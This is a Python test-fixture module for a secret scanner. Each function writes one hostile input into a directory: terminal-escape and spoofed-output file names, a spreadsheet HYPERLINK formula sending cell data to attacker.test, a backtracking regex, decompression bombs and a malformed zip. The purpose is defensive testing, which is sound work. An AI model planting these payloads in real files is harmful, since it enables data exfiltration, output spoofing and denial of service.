"""Hostile inputs for the security tests: each builder writes one attack into a directory and returns
what must never appear in any output (the raw keys it holds)."""

from __future__ import annotations

import base64
import gzip
import io
import json
import os
import struct
import tarfile
import zipfile
from pathlib import Path

from revoke_servers import random_key

ESC_NAME = "\x1b]0;pwned\x07evil\nfake.py:1:1  stripe.secret-key  critical\n\u202eyp.txt"
FORMULA_NAME = '=HYPERLINK("https:attacker.test?"&A1,"open").py'
SLOW_RULE = """
[[rules]]
id = "hostile.slow"
name = "Backtracks"
description = "A pattern a rule file from an untrusted tree could hold: exponential on a run of x."
pattern = '''(?:x+x+)+(y)'''
keywords = ["xx"]
severity = "low"
confidence = "low"
"""


def neighbours_on_one_line(root: Path) -> list[str]:
    """An ignored key beside a reported one, and a third whose head the snippet window would cut."""
    ignored, reported, cut = random_key("sk_live_", 40), random_key("sk_live_"), random_key("rk_live_", 90)
    (root / "pay.py").write_text(f'KEYS = ["{ignored}", "{reported}"]\nSTRIPE = ["{cut}", "{random_key("sk_live_")}"]\n')
    import hashlib

    (root / ".keysweepignore").write_text(f"stripe.secret-key:{hashlib.sha256(ignored.encode()).hexdigest()}\n"
                                          f"stripe.restricted-key:{hashlib.sha256(cut.encode()).hexdigest()}\n")
    return [ignored, cut, cut[-30:], ignored[-20:]]


def har_with_encoded_key(root: Path) -> list[str]:
    key = random_key("sk_live_")
    encoded = key.replace("_", "%5F")
    har = {"log": {"version": "1.2", "creator": {"name": "t", "version": "1"}, "entries": [{
        "startedDateTime": "2024-01-01T00:00:00Z",
        "request": {"method": "GET", "url": f"https://api.example.test/v1/keys/{encoded}/charges", "headers": []},
        "response": {"status": 200}}]}}
    (root / "capture.har").write_text(json.dumps(har))
    return [key, encoded, key[8:]]


def escape_sequences_in_names(root: Path) -> list[str]:
    key = random_key("sk_live_")
    (root / ESC_NAME).write_text(f'STRIPE_KEY = "{key}"\n')
    (root / FORMULA_NAME).write_text(f'STRIPE_KEY = "{random_key("sk_live_")}"\n')
    return [key]


def fifo_in_tree(root: Path, outside: Path) -> list[str]:
    os.mkfifo(root / "named-pipe.env")
    outside.mkdir(parents=True, exist_ok=True)
    os.mkfifo(outside / "app.js.map")
    relative = os.path.relpath(outside / "app.js.map", root / "dist")
    (root / "dist").mkdir()
    padding = ";".join(f"var v{i}=function(a){{return a*{i}}}" for i in range(120))
    (root / "dist" / "app.js").write_text(f"{padding}\n//# sourceMappingURL={relative}\n")
    return []


def kubernetes_newlines(root: Path) -> list[str]:
    (root / "secret.yaml").write_text("kind Secret\n" + "\n" * 60_000)
    return []


def curl_continuations(root: Path) -> list[str]:
    (root / "deploy.sh").write_text("curl " * 40_000 + "\\\n -u a:b\n")
    return []


def compressed_bombs(root: Path) -> list[str]:
    """A gzip log expanding far beyond 100x, and a tar.gz whose oversized members are skipped but must be
    inflated to get past them: their bytes count against the archive's budget."""
    zeros = b"0" * (1 << 20)
    with gzip.open(root / "app.log.gz", "wb", compresslevel=9) as handle:
        for _ in range(48):
            handle.write(zeros)
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", compresslevel=1) as archive:
        for n in range(12):  # each over a 64 KB size limit (skipped), none over the 2 MB budget on its own
            big = tarfile.TarInfo(f"big{n}.bin")
            big.size = 256 << 10
            archive.addfile(big, io.BytesIO(os.urandom(big.size)))  # incompressible: the ratio bound stays away
    (root / "release.tar.gz").write_bytes(buffer.getvalue())
    return []


def unsupported_zip_version(root: Path) -> list[str]:
    """A zip whose central directory claims version 21.1 is needed to extract it (zipfile raises
    NotImplementedError, which once cost the whole scan)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("config.env", f"STRIPE_KEY={random_key('sk_live_')}\n")
    data = bytearray(buffer.getvalue())
    central = data.find(b"PK\x01\x02")
    struct.pack_into("<H", data, central + 6, 211)  # version needed to extract
    (root / "odd.zip").write_bytes(bytes(data))
    return []


def base64_secret(key: str) -> str:
    return base64.b64encode(key.encode()).decode()
